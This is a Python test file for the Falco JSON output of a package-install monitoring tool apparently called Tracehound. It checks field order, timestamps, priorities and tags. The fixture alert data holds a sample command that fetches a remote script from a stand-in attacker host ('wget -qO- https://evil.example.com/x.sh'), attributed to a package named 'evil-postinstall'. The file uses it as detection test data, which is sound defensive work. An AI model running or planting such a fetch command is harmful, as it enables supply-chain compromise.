"""Falco JSON lines: exactly Falco's keys and encoding, Tracehound context only in output_fields."""

from __future__ import annotations

import json

from report_samples import clean_result, findings_result

from tracehound.report import render
from tracehound.report.falco import falco_alert

FALCO_KEYS = ["hostname", "output", "output_fields", "priority", "rule", "source", "tags", "time"]


def _lines(result) -> list[str]:
    text = render(result, "falco")
    assert text.endswith("\n")
    return text.splitlines()


def test_one_compact_sorted_line_per_alert():
    lines = _lines(findings_result())
    assert len(lines) == 6
    for line in lines:
        assert line.startswith('{"hostname":')
        obj = json.loads(line)
        assert list(obj) == FALCO_KEYS  # json.loads keeps the order the keys were written in
        assert list(obj["output_fields"]) == sorted(obj["output_fields"])
        # nlohmann dump(-1): no whitespace between tokens
        assert line == json.dumps(obj, separators=(",", ":"), sort_keys=True, ensure_ascii=False)


def test_first_alert_values():
    obj = json.loads(_lines(findings_result())[0])
    assert obj["hostname"] == "builder-7"
    assert obj["rule"] == "Unexpected outbound connection destination"
    assert obj["priority"] == "Notice"
    assert obj["source"] == "syscall"
    assert obj["time"] == "2026-11-26T10:00:20.123456789Z"
    assert obj["tags"] == ["T1105", "mitre_command_and_control", "network"]  # sorted like Falco's std::set
    assert obj["output"].startswith("10:00:20.123456789: Notice Disallowed outbound connection destination")
    assert obj["output_fields"] == {
        "container.id": "th-0f8e4c2a",
        "container.name": "tracehound-0f8e4c2a",
        "evt.time": 1795687220123456789,
        "fd.name": "10.200.0.2:54865->203.0.113.7:443",
        "pkg.ecosystem": "npm",
        "pkg.name": "evil-postinstall",
        "pkg.phase": "install",
        "pkg.version": "1.0.3",
        "proc.cmdline": "wget -qO- https://evil.example.com/x.sh",
        "proc.pid": 3104,
        "user.name": "root",
    }


def test_evt_time_is_added_when_the_rule_output_had_none():
    # 2026-11-26T10:00:21.5Z: 20783 days after the epoch (56 years with 14 leap days, plus 329 days
    # into 2026), 36021.5 s into the day -> 1795687221.5 s
    obj = json.loads(_lines(findings_result())[2])
    assert obj["rule"] == "Honeytoken exfiltrated"
    assert obj["output_fields"]["evt.time"] == 1795687221500000000
    assert obj["priority"] == "Critical"
    assert obj["tags"] == ["T1041", "T1552", "honeytoken", "mitre_credential_access", "mitre_exfiltration"]


def test_unattributed_alert_gets_phase_but_no_package_fields():
    obj = json.loads(_lines(findings_result())[5])
    assert obj["rule"] == "Process survived phase end"
    assert obj["priority"] == "Informational"
    assert obj["tags"] == []
    fields = obj["output_fields"]
    assert fields["pkg.phase"] == "import"
    assert not {"pkg.name", "pkg.version", "pkg.ecosystem"} & set(fields)
    assert fields["evt.time"] == 1795687252000000000


def test_values_the_rule_printed_win_over_tracehound_context():
    alert = findings_result().alerts[3].model_copy(deep=True)
    alert.output_fields["pkg.name"] = "printed-by-the-rule"
    alert.output_fields["pkg.phase"] = None  # a field Falco could not extract stays null
    fields = falco_alert(alert)["output_fields"]
    assert fields["pkg.name"] == "printed-by-the-rule"
    assert fields["pkg.phase"] is None
    assert fields["pkg.version"] == "4.17.21"  # not printed by the rule: added


def test_context_is_not_added_as_top_level_keys():
    for line in _lines(findings_result()):
        assert not {"package", "phase", "evidence"} & set(json.loads(line))


def test_time_and_priority_are_normalised_to_falco_spelling():
    alert = findings_result().alerts[0].model_copy(deep=True)
    alert.time = "2026-11-26T11:00:20.5+01:00"
    alert.priority = "WARNING"
    obj = falco_alert(alert)
    assert obj["time"] == "2026-11-26T10:00:20.500000000Z"
    assert obj["priority"] == "Warning"


def test_never_empty_output_fields():
    # falcosidekick rejects alerts with empty output_fields
    alert = findings_result().alerts[5].model_copy(deep=True)
    alert.output_fields = {}
    alert.phase = None
    assert falco_alert(alert)["output_fields"] == {"evt.time": 1795687252000000000}


def test_clean_result_has_no_lines():
    assert render(clean_result(), "falco") == ""
